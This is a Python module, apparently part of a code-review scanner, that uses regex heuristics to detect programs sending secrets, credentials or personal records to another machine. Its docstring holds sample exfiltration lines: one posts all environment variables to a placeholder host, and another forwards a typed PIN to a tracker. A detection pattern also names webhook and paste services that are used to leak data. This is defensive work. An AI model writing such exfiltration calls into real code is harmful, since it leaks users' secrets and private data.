"""Secrets and private values that a program hands to another machine, in any language.

Code with HTTP clients, passwords and tokens is everywhere: a form is posted to its own server, a
key goes to the service it is for. So the address must be a literal one of another machine, the
value must be one that nobody has a use for there, and both must meet in one function or by one
call. A password counts only beside the check that it was typed for, records of people only where
the failure is swallowed or a chat gets them.

    facts["env"] = Environment.GetEnvironmentVariables(); Post("https://m.example/h", facts)
    verify(body.pin, hash); track({"k": body.pin})      with track: post("https://m.example", e)
    post("https://api.pay.example", headers={"Authorization": key})            none
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from itertools import islice

import re2

from signoff.actions.contents.leaks import places, sources
from signoff.actions.contents.leaks.functions import CodeFunction, functions_of, given_to
from signoff.actions.contents.leaks.mailed_rows import mailed_rows
from signoff.actions.contents.leaks.name_queries import sent_in_names
from signoff.actions.contents.leaks.places import ADDRESS
from signoff.actions.contents.leaks.private_copies import handed_copy, private_copy
from signoff.actions.contents.leaks.reported import reported
from signoff.actions.contents.loaders.call_words import ENVIRONMENT, SENDS, STARTS
from signoff.actions.contents.loaders.marks import without_child
from signoff.actions.contents.text import NewText
from signoff.actions.lexicon.private_names import concerns_people
from signoff.actions.vocabulary import lazy_re, lazy_re2, words

_READ = 40_000  # characters
_MOST = 40
_FEW = 6
_LOOP = 600  # characters behind the folder whose files are read
_NAME = lazy_re(r"[A-Za-z_]\w*", re.ASCII)
_SENDS_MORE = lazy_re2(
    r"(?i)\bUTL_HTTP\b|HTTPURITYPE|\bproc\s+http\b|\bhttp_post\s*\(|\.write(?:Bytes|String)?\s*\("
    r"|\bset_?Body\s*\(|\.src\s*=|\bHttp::\w+|->post\s*\(|\bpublish\w*\s*\("
    r"|\breq_(?:perform|body)|\bPOST\s*\(|\bhttp\.request\b|:request\w*\s*\(|\bNewRequest\w*\s*\(|\bRequest(?:::b|\.B)uilder\b|\bURLRequest\b|\bWebSocket\b|\bhackney\b|Finch\.build|\bbasicRequest\b|\bquickRequest\b|\bsend_(?:json|form|string)\s*\(|\bfile_get_contents\s*\("
)
_SENDING_CALL = lazy_re2(
    r"(?i)(?:\w*(?:post|put|send|fetch|request|publish|urlopen|open|upload|track|beacon|set_?body|write"
    r"|begin_request|ofString|\bget)\w*!?\s*\()"
)
_HEADERS = lazy_re2(
    r"(?is)\bheaders[\"']?\s*[:=]\s*(?:\{(?:[^{}]|\{[^{}]*\})*\}|\w+)|\b(?:set|add)_?(?:request_?)?(?:header|property)\w*\s*\([^()\n]*\)|\.header\([^()\n]*\)|\bauth\s*=\s*\([^()]*\)"
)
_HASHED = lazy_re2(
    r"(?i)(?:\b|_)(?:sha[_-]?\d|md5|hash|digest|hmac|bcrypt|encrypt)\w*\s*\([^()\n]{0,80}\)"
)
_COVERT = lazy_re2(
    r"(?is)except[^\n]{0,40}:\s*pass|catch\s*(?:\([^)]{0,60}\))?\s*\{\s*\}|rescue\s+nil|\.catch\(\s*\(?\w*\)?\s*=>"
    r"\s*\{?\s*\}?\s*\)|when\s+others\s+then\s+null|\brunCatching\b|on\s+error\s+resume"
    r"|catch\s*\(\s*\w*\s*(?:ignored?|_)\s*\)"
)
_CHATS = lazy_re2(
    r"(?i)api\.telegram\.org/|discord(?:app)?\.com/api/webhooks|hooks\.slack\.com|webhook\.site|pastebin\.com"
    r"|transfer\.sh|file\.io|requestbin|ntfy\.sh"
)
_WHOLE_TABLE = lazy_re2(
    r"(?i)->get\(\)|\.all\(\)|::all\(|to_?json|find_?all|findMany\(|select\s|\.dump|to_csv"
)
_TAKEN_BY_KEY = r"(?:\[|\.get\(|\.(?:private_key|api_?key|token|client_id))"
_TAKES_ONE = lazy_re2(
    r"(?i)\.exec\(|match\w*\(|split\w*\(|JSON\.parse|json\.loads?\(|yaml\.|\bparse\w*\(|getProperty|readlines?\("
    r"|\bfind\w*\(|json_decode|from_(?:str|json)|decode\("
)
_ASSIGNED = lazy_re2(
    r"\$?([A-Za-z_]\w{0,40})(?:,\s*\w{1,20})?(?:\s*:\s*[\w<>?.]{1,30})?\s*(?::=|\+=|=)\s*([^=>;\n][^;\n]{0,300})"
)
_PACKS = lazy_re2(
    r"(?i)marshal|stringify|dumps\(|to_?json|(?:json|url|form)\w*encode|Map\.of\(|^\s*[\[{]"
)
_LET = lazy_re2(r"([^\n]{0,200})\?*\.let\s*\{\s*(\w+)\s*->")
# The service that a variable's secret belongs to, by the words of both.
_KNOWN_SECRETS = words("aws github npm gitlab stripe slack openai anthropic heroku azure google")


def sent_out(text: NewText, path: str) -> str:
    """Return what a new text hands of secrets or private values to another machine, else "".

    Args:
        path: of the file; a host whose name it has is the project's own.
    """
    found = _sent(text.new, path)
    return "" if found and text.old and _sent(text.old, path) == found else found


def _sent(text: str, path: str) -> str:
    head = text[:_READ]
    if left := sent_in_names(head) or mailed_rows(head) or reported(head):
        return left
    if not places.is_named(head):
        return ""
    functions = functions_of(head)
    held = places.held_addresses(head)
    sinks = {id(one): place for one in functions if (place := _goes_out(one.text, held))}
    if not sinks:
        return ""
    named = {one.name: sinks[id(one)] for one in functions if id(one) in sinks and one.name}
    names = Counter(one.name for one in functions)
    whole = {
        one.name
        for one in functions
        if one.name and not one.name.startswith("__") and names[one.name] == 1
        if _holds_whole(one.text)
    }
    for one in functions:
        place = sinks.get(id(one), "")
        found = place and (
            _whole_sent(one.text, whole)
            or _one_sent(one.text, place, path, head)
            or private_copy(one.text, held, path, head)
        )
        if found := found or _handed_on(one, named, path, head):
            return found[:200]
    return ""


def _goes_out(text: str, held: dict[str, str]) -> str:
    """The address of another machine to which a function sends something, "" if none."""
    if SENDS.search(text) is None and _SENDS_MORE.search(text) is None:
        return ""
    return next((address for _, address in places.addresses_in(text, held)), "")


def _names(text: str) -> frozenset[str]:
    return frozenset(_NAME.findall(text))


def _holds_whole(text: str) -> str:
    """What a function reads of a whole store of secrets, "" if nothing."""
    without = without_child(text)
    for find in (sources.STORES, ENVIRONMENT):
        if (match := find.search(without)) is not None:
            is_started = find is ENVIRONMENT and STARTS.search(without) is not None
            return "" if is_started else str(match.group())
    return _file_read(text) or _folder_read(text)


def _folder_read(text: str) -> str:
    """The folder of keys of which a function reads and sends each file, "" if none."""
    for match in islice(sources.KEY_FOLDER.finditer(text), _FEW):
        before = text[max(match.start() - 120, 0) : match.start()]
        behind = text[match.end() : match.end() + _LOOP]
        if (
            sources.LISTS_FILES.search(before + behind[:40]) is not None
            and sources.READS_FILE.search(behind) is not None
            and _SENDING_CALL.search(behind) is not None
        ):
            return str(match.group())
    return ""


def _file_read(text: str) -> str:
    """The file of secrets that a function reads as a whole: no key of it is taken."""
    for match in islice(sources.SECRET_FILE.finditer(text), _FEW):
        near = text[max(match.start() - 200, 0) : match.end() + 500]
        if sources.READS_FILE.search(near) is None:
            continue
        names = [str(one.group(1)) for one in islice(_ASSIGNED.finditer(near), _MOST)]
        taken = "|".join(sorted({re2.escape(name) for name in names})) or "_"
        if re2.search(rf"\b(?:{taken})\s*{_TAKEN_BY_KEY}", text) is not None:
            continue
        is_whole = _TAKES_ONE.search(text) is None
        if is_whole or _mentions(" ".join(_sent_in(text)), _names_of(text, sources.SECRET_FILE)):
            return str(match.group())
    return ""


def _whole_sent(text: str, whole: set[str]) -> str:
    """What a function that sends reads of a whole store, itself or by another function."""
    if found := _holds_whole(text):
        return found
    called = {name for name in _names(text) & whole if f"{name}(" in text or f"::{name}" in text}
    return next(iter(sorted(called)), "")


def _one_sent(text: str, place: str, path: str, whole_text: str) -> str:
    """The single secret or private value that a function sends to a place, "" if none."""
    given = " ".join(_sent_in(text))
    if found := _named_secret(given, text):
        return found
    if places.is_own(place, path) or not given:
        return ""
    if (people := _people_sent(text, place, given)) or places.is_for_logins(place):
        return people
    return _login_sent(text, given, whole_text)


def _login_sent(text: str, given: str, whole_text: str) -> str:
    names = _names_of(text, sources.BROUGHT)
    brought = sources.BROUGHT.search(given)
    if brought is not None or _mentions(given, names):
        return str(brought.group()) if brought is not None else ", ".join(sorted(names))
    typed = sources.TYPED.search(given) or _packed_in(text, given)
    is_checked = typed is not None and sources.CHECKS_HERE.search(whole_text) is not None
    return str(typed.group()) if typed is not None and is_checked else ""


def _packed_in(text: str, given: str) -> re.Match[str] | None:
    """What is typed and packed into a value that is sent."""
    for match in islice(_ASSIGNED.finditer(text), _MOST):
        value = _plain(str(match.group(2)))
        typed = sources.TYPED.search(value) if _PACKS.search(value) is not None else None
        if typed is not None and _mentions(given, frozenset({str(match.group(1))})):
            return typed
    return None


def _people_sent(text: str, place: str, given: str) -> str:
    """What of people's records leaves unseen, or goes to a chat."""
    is_covert = _COVERT.search(text) is not None
    answer = sources.ANSWER.search(given)
    if is_covert and answer is not None and sources.SEES_ALL.search(text) is not None:
        return str(answer.group())
    is_chat = _CHATS.search(place) is not None and _WHOLE_TABLE.search(text) is not None
    return place if (is_covert or is_chat) and concerns_people(text) else ""


def _handed_on(one: CodeFunction, named: dict[str, str], path: str, whole_text: str) -> str:
    """The secret that a function hands to another one of the text, which sends it."""
    for name in sorted(_names(one.text) & named.keys() - {one.name}):
        if places.is_own(named[name], path) or places.is_for_logins(named[name]):
            continue
        for match in islice(re2.finditer(rf"\b{name}\b\s*[(,]", one.text), _FEW):
            given = _plain(given_to(one.text, match.end()))
            found = _login_sent(one.text, given, whole_text)
            if found := found or handed_copy(
                given, named[name], path, text=one.text, whole_text=whole_text
            ):
                return found
    return ""


def _sent_in(text: str) -> Iterator[str]:
    for match in islice(_SENDING_CALL.finditer(text), _MOST):
        yield _plain(given_to(text, match.end()))
    for match in islice(ADDRESS.finditer(text), _FEW):
        behind = text[match.start() : match.end() + 300].partition(";")[0]
        yield _plain(behind).partition("headers")[0]


def _plain(given: str) -> str:
    """What is sent, without what logs in and what is only a checksum."""
    return str(_HASHED.sub("", str(_HEADERS.sub("", given))))


def _named_secret(given: str, text: str) -> str:
    places = " ".join([str(m.group()) for m in islice(ADDRESS.finditer(text), _MOST)]).lower()
    for match in islice(sources.NAMED.finditer(given), _FEW):
        owner = str(match.group(1)).lower().partition("_")[0]
        if owner in _KNOWN_SECRETS and owner not in places:
            return str(match.group())
    return ""


def _names_of(text: str, source: re2._Regexp[str]) -> frozenset[str]:
    """The names that are given a value of a source, directly or over another name."""
    pairs = [(m.group(1), m.group(2)) for m in islice(_ASSIGNED.finditer(text), _MOST)]
    names = frozenset(name for name, value in pairs if source.search(value))
    for match in islice(_LET.finditer(text), _FEW):
        if source.search(match.group(1)) is not None:
            names |= {match.group(2)}
    return names | {name for name, value in pairs if _mentions(value, names)}


def _mentions(text: str, names: frozenset[str]) -> bool:
    any_of = "|".join(re2.escape(name) for name in sorted(names))
    return bool(names) and re2.search(rf"(?:^|[^\w.])(?:{any_of})(?:[^\w:]|$)", text) is not None
